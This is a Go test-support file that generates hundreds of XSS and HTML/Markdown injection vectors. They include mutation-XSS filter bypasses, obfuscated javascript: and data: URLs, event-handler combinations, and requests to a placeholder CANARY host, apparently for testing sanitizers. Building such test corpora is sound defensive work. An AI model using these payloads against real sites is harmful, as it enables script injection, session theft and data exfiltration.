package knowledgetest

import (
	"fmt"
	"strings"
)

// Vector is one piece of markup that means harm, and where it came from.
type Vector struct {
	Name string
	HTML string
}

var scripts = []string{
	`window.__canary()`, `fetch('//CANARY/js')`, `new Image().src='http://CANARY/img'`, `top.__canary()`,
	`window['__can'+'ary']()`, `window.webkit.messageHandlers.external.postMessage('x')`,
}

var elements = strings.Fields(`a abbr address area article aside audio b base body br button canvas center code col details dialog div dl embed
	fieldset font form frame frameset h1 head header html iframe image img input isindex kbd keygen label li link listing map marquee math menu meta
	meter nav noscript object ol optgroup option p param picture plaintext portal pre progress q s script section select slot source span strong style
	sub summary svg table tbody td template textarea th title tr track u ul var video xmp x-custom`)

var events = strings.Fields(`onload onerror onclick onmouseover onfocus onblur ontoggle onanimationstart onanimationend ontransitionend
	onpointerenter onpointerrawupdate onscroll onwheel onbeforecopy oncopy oncut onpaste onresize onhashchange onmessage onpageshow onsubmit
	oninput onchange onstart onbegin onend onrepeat onloadstart oncanplay onbounce onfinish onfocusin onbeforetoggle oncontentvisibilityautostatechange`)

var urlAttributes = strings.Fields(`href src srcset data action formaction background poster cite longdesc lowsrc dynsrc xlink:href ping manifest
	codebase archive classid profile usemap icon srcdoc style content`)

var urls = []string{
	`javascript:window.__canary()`, `JaVaScRiPt:window.__canary()`, "java\tscript:window.__canary()", "java\nscript:window.__canary()", " javascript:window.__canary()",
	"\x01javascript:window.__canary()", `javascript&colon;window.__canary()`, `&#106;avascript:window.__canary()`, `&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A;window.__canary()`,
	`javascript&#58;window.__canary()`, `java&Tab;script&colon;window.__canary()`, `vbscript:msgbox(1)`, `data:text/html,<script>window.__canary()</script>`,
	`data:text/html;base64,PHNjcmlwdD53aW5kb3cuX19jYW5hcnkoKTwvc2NyaXB0Pg==`, `data:image/svg+xml,<svg onload=window.__canary()>`, `blob:http://CANARY/x`,
	`file:///etc/passwd`, `\\CANARY\share`, `//CANARY/x`, `http://CANARY/x`, `https://user:pass@CANARY/x`, `ftp://CANARY/x`, `smb://CANARY/x`, `ms-msdt:/id PCWDiagnostic`,
	`search-ms:query=x`, `vscode://file/x`, `wails://wails/`, `view-source:http://CANARY/`, `filesystem:http://CANARY/`, `intent://CANARY#Intent;scheme=http;end`,
	`mailto:a@b?attach=/etc/passwd`, `tel:112`, `feed:javascript:window.__canary()`, "http://CANARY/\u202egpj.exe", `http://CANARY\@good.example/`, `jar:http://CANARY!/x`,
}

// classics are what got through walls of other programs, mutation above all.
var classics = []string{
	`<script>SCRIPT</script>`, `<ScRiPt >SCRIPT</sCrIpT>`, `<scr<script>ipt>SCRIPT</script>`, `<script/src=//CANARY/x.js></script>`, `<<script>SCRIPT//<</script>`,
	`<script\x0b>SCRIPT</script>`, `<script x>SCRIPT</script x>`, `</title><script>SCRIPT</script>`, `</textarea><script>SCRIPT</script>`, `--><script>SCRIPT</script>`,
	`<![CDATA[<script>SCRIPT</script>]]>`, `<!--[if gte IE 4]><script>SCRIPT</script><![endif]-->`, `<!--><script>SCRIPT</script>-->`, `<! foo="[[[Inception]]"><x foo="]foo><script>SCRIPT</script>">`,
	`<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=SCRIPT&gt;">`,
	`<form><math><mtext></form><form><mglyph><style></math><img src onerror=SCRIPT>`,
	`<svg></p><style><a id="</style><img src=1 onerror=SCRIPT>">`, `<svg><style>&lt;img src=x onerror=SCRIPT&gt;</style></svg>`,
	`<noscript><p title="</noscript><img src=x onerror=SCRIPT>">`, `<xmp><p title="</xmp><svg/onload=SCRIPT>">`, `<noembed><img title="</noembed><img src onerror=SCRIPT>"></noembed>`,
	`<iframe srcdoc="<script>parent.SCRIPT</script>"></iframe>`, `<iframe src="javascript:SCRIPT"></iframe>`, `<object data="data:text/html,<script>SCRIPT</script>"></object>`,
	`<embed src="http://CANARY/x.swf">`, `<embed code="javascript:SCRIPT">`, `<link rel=stylesheet href=http://CANARY/x.css>`, `<link rel=prefetch href=http://CANARY/p>`, `<link rel=dns-prefetch href=//CANARY>`,
	`<meta http-equiv=refresh content="0;url=javascript:SCRIPT">`, `<meta http-equiv=refresh content="0;url=http://CANARY/">`, `<base href="http://CANARY/">`,
	`<style>@import url(http://CANARY/x.css);</style>`, `<style>*{background:url(http://CANARY/bg)}</style>`, `<div style="background:url(http://CANARY/bg)">x</div>`,
	`<div style="width:expression(SCRIPT)">x</div>`, `<p style="position:fixed;inset:0;z-index:9999">x</p>`, `<svg><script>SCRIPT</script></svg>`, `<svg><script href="data:,SCRIPT"/></svg>`,
	`<svg><animate onbegin=SCRIPT attributeName=x dur=1s>`, `<svg><a xlink:href="javascript:SCRIPT"><text y=20>x</text></a></svg>`, `<svg><use href="http://CANARY/x.svg#x"/></svg>`,
	`<svg><foreignObject><iframe src="javascript:SCRIPT"></iframe></foreignObject></svg>`, `<svg><set attributeName=href to="javascript:SCRIPT"/></svg>`, `<svg><image href="http://CANARY/i"/></svg>`,
	`<img src="http://CANARY/i.png">`, `<img srcset="http://CANARY/i.png 1x">`, `<img src=x:x onerror=SCRIPT>`, `<img/src="x"/onerror=SCRIPT>`, "<img src=`x` onerror=SCRIPT>", `<img """><script>SCRIPT</script>">`,
	`<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">`, `<picture><source srcset="http://CANARY/s"><img src="http://CANARY/i"></picture>`, `<video poster="http://CANARY/p" src="http://CANARY/v"></video>`,
	`<audio src="http://CANARY/a" onerror=SCRIPT autoplay></audio>`, `<video><source onerror=SCRIPT></video>`, `<track src="http://CANARY/t">`, `<input type=image src="http://CANARY/i" onerror=SCRIPT>`,
	`<input autofocus onfocus=SCRIPT>`, `<details open ontoggle=SCRIPT>x</details>`, `<marquee onstart=SCRIPT>x</marquee>`, `<body onload=SCRIPT>`, `<body background="http://CANARY/b">`, `<frameset onload=SCRIPT>`,
	`<form action="http://CANARY/f"><input name=x><button>x</button></form>`, `<form id=x></form><button form=x formaction="javascript:SCRIPT">x</button>`, `<isindex action="javascript:SCRIPT" type=image>`,
	`<a href="javascript:SCRIPT">x</a>`, `<a href="javascript:void(0)" onclick=SCRIPT>x</a>`, `<a ping="http://CANARY/p" href="https://example.org/">x</a>`, `<a href="https://example.org/" target=_blank>x</a>`,
	`<a id=location href="https://example.org">x</a>`, `<img name=getElementById>`, `<form name=document><input name=cookie></form>`, `<a id=__proto__ name=constructor>x</a>`, `<h2 id="__proto__">x</h2>`,
	`<table background="http://CANARY/t"><td background="http://CANARY/td">x</table>`, `<table><caption onclick=SCRIPT><img src=x onerror=SCRIPT></caption></table>`, `<template><script>SCRIPT</script></template>`,
	`<div><template shadowrootmode=open><script>SCRIPT</script></template></div>`, `<portal src="http://CANARY/"></portal>`, `<applet code="x" archive="http://CANARY/x.jar"></applet>`, `<bgsound src="http://CANARY/s">`,
	`<layer src="http://CANARY/l"></layer>`, `<xml id=x><script>SCRIPT</script></xml>`, `<?xml-stylesheet href="javascript:SCRIPT"?>`, `<?php echo 1 ?><script>SCRIPT</script>`, `<%= SCRIPT %>`, `{{constructor.constructor('SCRIPT')()}}`, `${SCRIPT}`,
	`&lt;script&gt;SCRIPT&lt;/script&gt;`, `&amp;lt;img src=x onerror=SCRIPT&amp;gt;`, `\u003cscript\u003eSCRIPT\u003c/script\u003e`, `%3Cscript%3ESCRIPT%3C/script%3E`, `+ADw-script+AD4-SCRIPT+ADw-/script+AD4-`,
	"\u202eevil\u202c", "a\u2066b\u2069c\u200e\u200f\u061c", "\ufeff\u200b\u00ad", "\x00\x01\x02\x1b[31mred\x7f", "\u0085\u2028\u2029", "<b\x00>x</b>", "\U000e0041\U000e0042", `<plaintext><script>SCRIPT</script>`,
}

// Vectors are pieces of HTML that would run a script or ask for something at
// http://CANARY if they could, by element, attribute, scheme and encoding.
func Vectors(canary string) []Vector {
	var list []Vector
	add := func(name, html string, script int) {
		html = strings.ReplaceAll(html, "SCRIPT", scripts[script%len(scripts)])
		list = append(list, Vector{name, strings.ReplaceAll(html, "CANARY", canary)})
	}
	for i, classic := range classics {
		for s := range scripts {
			if s == 0 || strings.Contains(classic, "SCRIPT") {
				add(fmt.Sprintf("classic %d", i), classic, s)
			}
		}
	}
	for i, element := range elements {
		for j, event := range events {
			quote := []string{`"`, `'`, ``}[(i+j)%3]
			add(element+" "+event, fmt.Sprintf(`<%s %s=%s%s%s autofocus tabindex=1 src=x>x</%s>`, element, event, quote, strings.ReplaceAll(scripts[0], "'", ""), quote, element), i+j)
		}
		for j, attribute := range urlAttributes {
			url := urls[(i*len(urlAttributes)+j)%len(urls)]
			add(element+" "+attribute, fmt.Sprintf(`<%s %s="%s">x</%s>`, element, attribute, url, element), 0)
		}
	}
	for i, url := range urls {
		for _, element := range []string{"a href", "img src", "a id=x href", "iframe src", "object data", "area href", "blockquote cite", "q cite", "img data-src", "link href"} {
			name, attribute, _ := strings.Cut(element, " ")
			add(fmt.Sprintf("%s url %d", element, i), fmt.Sprintf(`<%s %s="%s">x</%s>`, name, attribute, url, name), 0)
		}
	}
	return list
}

// MarkdownVectors are the same in the ways of Markdown.
func MarkdownVectors(canary string) []Vector {
	var list []Vector
	for i, url := range urls {
		for j, form := range []string{"[x](%s)", "[x](<%s>)", "![x](%s)", "<%s>", "[x]: %s\n\n[x]", "[![x](%s)](%[1]s)", "%s", "![x][y]\n\n[y]: <%s> \"onerror=window.__canary()\"", "[a](%s \"\\\"><script>window.__canary()</script>\")"} {
			list = append(list, Vector{fmt.Sprintf("markdown %d url %d", j, i), strings.ReplaceAll(fmt.Sprintf(form, url), "CANARY", canary)})
		}
	}
	for i, payload := range []string{"<script>window.__canary()</script>", "<img src=http://CANARY/m onerror=window.__canary()>", "\u202e\x1b[31m\u200b", "javascript:window.__canary()"} {
		for j, form := range []string{"# %s\n", "| %s |\n|---|\n| %[1]s |\n", "- [ ] %s\n", "[^1]\n\n[^1]: %s\n", "%s\n: %[1]s\n", "> [!NOTE]\n> %s\n", "::: note %s\n%[1]s\n:::\n", "!!! warning \"%s\"\n    %[1]s\n",
			"```%s\ncode\n```\n", "## x {#%s}\n", "{{< note \"%s\" >}}%[1]s{{< /note >}}", "~~%s~~ **%[1]s** _%[1]s_ `%[1]s`", "<div title='%s'>\n\n%[1]s\n\n</div>\n", "<details><summary>%s</summary>\n\n%[1]s\n</details>\n"} {
			list = append(list, Vector{fmt.Sprintf("markdown %d payload %d", j, i), strings.ReplaceAll(fmt.Sprintf(form, payload), "CANARY", canary)})
		}
	}
	return list
}
